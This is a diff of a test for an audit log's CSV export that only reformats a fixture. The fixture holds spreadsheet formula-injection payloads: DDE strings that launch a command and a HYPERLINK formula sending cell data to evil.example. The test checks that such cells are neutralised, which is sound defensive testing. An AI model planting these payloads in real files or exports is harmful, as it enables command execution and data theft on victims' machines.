@@ -48,7 +48,12 @@ describe('the CSV export of the audit log', () => {
   it('prefixes a cell a spreadsheet would run as a formula with a quote, and leaves other cells as they are', async () => {
     const recorder = new PrismaAuditRecorder(t.db.prisma);
     const hostile = {
-      actor: { id: '@SUM(1+1)*cmd|"/c calc"!A0', type: 'API_KEY' as const, displayName: '=HYPERLINK("http://evil.example/?"&A1,"open")', authMethod: 'api-key' },
+      actor: {
+        id: '@SUM(1+1)*cmd|"/c calc"!A0',
+        type: 'API_KEY' as const,
+        displayName: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        authMethod: 'api-key',
+      },
       userAgent: '+1+cmd|"/c calc"!A0',
       requestId: '-2+3',
       clientIp: '\t=1+1',
